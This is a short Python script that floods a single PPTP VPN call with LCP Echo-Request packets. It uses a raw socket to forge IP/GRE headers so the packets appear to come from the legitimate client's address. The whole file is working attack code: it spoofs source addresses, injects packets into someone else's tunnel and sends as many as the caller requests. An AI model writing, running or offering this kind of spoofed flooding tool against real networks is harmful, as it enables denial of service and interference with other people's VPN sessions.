#!/usr/bin/env python3
"""Floods one PPTP call with LCP Echo-Requests, as GRE from the client's
address (raw IP, so the source can be the client's).

usage: lcp_flood.py SRC DST CALL_ID COUNT
Prints how many it sent.
"""
import socket
import struct
import sys

src, dst, call, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
for i in range(count):
    lcp = struct.pack("!BBH", 9, i & 0xFF, 8) + b"\x01\x02\x03\x04"  # Echo-Request, magic
    ppp = b"\xff\x03\xc0\x21" + lcp
    gre = struct.pack("!HHHHI", 0x3001, 0x880B, len(ppp), call, 5_000_000 + i) + ppp
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(gre), 0, 0x4000, 64, 47, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    sent += s.sendto(ip + gre, (dst, 0)) > 0
print(sent)
